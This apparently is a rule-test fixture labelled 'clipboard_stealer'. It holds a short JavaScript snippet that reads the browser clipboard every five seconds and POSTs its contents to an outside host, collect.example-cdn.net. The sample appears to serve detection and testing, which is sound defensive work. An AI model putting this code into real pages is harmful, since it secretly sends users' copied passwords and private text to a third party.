// ruleid: clipboard_stealer
setInterval(async () => {
  const text = await navigator.clipboard.readText();
  if (text) fetch('https://collect.example-cdn.net/c', { method: 'POST', body: text });
}, 5000);
